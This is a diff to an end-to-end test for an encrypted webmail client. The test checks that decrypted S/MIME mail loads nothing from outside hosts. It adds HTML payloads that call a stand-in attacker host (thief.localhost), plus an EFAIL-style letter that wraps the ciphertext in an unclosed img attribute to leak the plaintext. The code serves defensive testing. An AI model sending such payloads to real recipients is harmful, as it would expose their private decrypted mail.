@@ -3,8 +3,10 @@ import { readFileSync, writeFileSync } from 'node:fs'
 import path from 'node:path'
 import { promisify } from 'node:util'
 import { expect, type Page } from '@playwright/test'
+import { createTransport } from 'nodemailer'
 import keysEn from '../../remote-keys/src/messages/en.ts'
 import keysZh from '../../remote-keys/src/messages/zh.ts'
+import { encryptPart, fromBase64, fromText, readCertificate } from '../../shared/cms/src/index.ts'
 import { fresh, newMail } from '../compose/desk.ts'
 import { apiOf, PASSWORD } from '../support/api.ts'
 import { violations } from '../support/axe.ts'
@@ -90,6 +92,39 @@ async function enterPin(page: Page, language: 'zh' | 'en'): Promise<void> {
   await expect(dialog).toHaveCount(0)
 }
 
+/** HTML that asks a server of its writer for something in each way that a browser knows. */
+const HOSTILE = [
+  '<style>@import url(http://thief.localhost/a);p{background:url(http://thief.localhost/b)}</style>',
+  '<link rel=stylesheet href=http://thief.localhost/c><base href=http://thief.localhost/>',
+  '<img src=http://thief.localhost/d srcset="http://thief.localhost/e 2x"><video poster=http://thief.localhost/f></video>',
+  '<meta http-equiv=refresh content="0;url=http://thief.localhost/g"><iframe src=http://thief.localhost/h></iframe>',
+].join('')
+
+/**
+ * Sends the reader two letters that are encrypted to them, as an attacker does who has the encrypted text of another: with HTML
+ * that loads from elsewhere before it, and between parts of which one opens an attribute and the other closes it.
+ */
+async function attack({ api }: Person, subject: string): Promise<void> {
+  const { list } = await api.post('keymanagement/key/getKeyByEmail', { emails: ['li.na@yanshu.test'] })
+  const certificate = readCertificate(fromBase64(list[0]?.certificates[0] ?? ''))
+  const html = `${HOSTILE}<p>${SECRET}</p>`
+  const part = await encryptPart(
+    fromText(`Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${html}\r\n`),
+    { recipients: [certificate], cipher: 'AES-256-CBC', rsa: 'PKCS1-v1_5' },
+  )
+  const sealed = Buffer.from(part).toString('latin1')
+  const open = 'Content-Type: text/html\r\n\r\n<p>before</p><img src="http://thief.localhost/?\r\n'
+  const close = 'Content-Type: text/html\r\n\r\n"><p>behind</p>\r\n'
+  const mixed = `Content-Type: multipart/mixed; boundary=E\r\n\r\n--E\r\n${open}--E\r\n${sealed}\r\n--E\r\n${close}--E--\r\n`
+  const transport = createTransport(server.smtpUrl)
+  const [from, to] = ['thief@example.org', 'li.na@yanshu.test']
+  for (const [name, body] of Object.entries({ alone: sealed, between: mixed })) {
+    const raw = `From: <${from}>\r\nTo: <${to}>\r\nSubject: ${subject} ${name}\r\nMIME-Version: 1.0\r\n${body}`
+    await transport.sendMail({ envelope: { from, to }, raw })
+  }
+  transport.close()
+}
+
 test('given two people with certificates, then one signs and encrypts to the other, who alone reads it, loads nothing for it and answers encrypted', async ({
   someone,
 }) => {
@@ -106,7 +141,11 @@ test('given two people with certificates, then one signs and encrypts to the oth
   await letter.subject.fill(subject)
   await letter.text.click()
   await writer.page.keyboard.type(SECRET)
-  await letter.files.setInputFiles({ name: '报价.txt', mimeType: 'text/plain', buffer: Buffer.from(SECRET) })
+  await letter.files.setInputFiles([
+    { name: '报价.txt', mimeType: 'text/plain', buffer: Buffer.from(SECRET) },
+    // Long enough that the writer is shown how far it is.
+    { name: '图纸.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(5 * 1024 * 1024) },
+  ])
   const option = writer.page.getByRole('group', { name: keysZh.write.legend })
   await option.getByRole('checkbox', { name: keysZh.write.sign }).check()
   await option.getByRole('checkbox', { name: keysZh.write.encrypt }).check()
@@ -122,8 +161,18 @@ test('given two people with certificates, then one signs and encrypts to the oth
   for (const name of [keysZh.write.sign, keysZh.write.encrypt]) await option.getByRole('checkbox', { name }).check()
   await expect(option).toContainText('1 位收件人都能打开')
   const asked = writer.page.waitForRequest('**/api/mail/email/send')
+  let release: () => void = () => undefined
+  const held = new Promise<void>((resolve) => {
+    release = resolve
+  })
+  await writer.page.route('**/api/file/upload', async (route) => {
+    await held
+    await route.continue()
+  })
   await letter.send.click()
   await enterPin(writer.page, 'zh')
+  await expect(writer.page.getByRole('status').filter({ hasText: keysZh.write.progress.uploading })).toBeVisible()
+  release()
   const { options } = (await asked).postDataJSON()
   expect(options['remote-keys.protection']).toMatchObject({ sign: true, encrypt: true, part: expect.any(String) })
   await expect(writer.page.locator('[aria-live]').filter({ hasText: '已发送' })).toBeVisible()
@@ -146,6 +195,19 @@ test('given two people with certificates, then one signs and encrypts to the oth
   await card.getByRole('button', { name: '报价.txt' }).click()
   expect(readFileSync(await (await download).path(), 'utf8')).toBe(SECRET)
   expect(await violations(page, { include: `[aria-label="${keysEn.reading.label}"]` })).toEqual([])
+  expect(asks.filter((url) => !url.startsWith(server.url) && !url.startsWith('blob:'))).toEqual([])
+
+  // Letters of an attacker: what is encrypted is shown in its own frame, or not opened, and loads nothing.
+  const stolen = `Stolen ${Date.now()}`
+  await attack(reader, stolen)
+  await goTo(page, `/reply/0/${await mailCalled(reader, `${stolen} alone`)}`)
+  const opened = page.locator(`iframe[title="${keysEn.reading.text}"]`).filter({ visible: true })
+  await expect(opened.contentFrame().getByText(SECRET)).toBeVisible()
+  await goTo(page, `/reply/0/${await mailCalled(reader, `${stolen} between`)}`)
+  await expect(
+    page.locator('article iframe').filter({ visible: true }).contentFrame().getByText('before'),
+  ).toBeVisible()
+  await expect(opened).toHaveCount(0)
   expect(asks.filter((url) => !url.startsWith(server.url) && !url.startsWith('blob:'))).toEqual([])
 
   // An answer is encrypted without being asked.
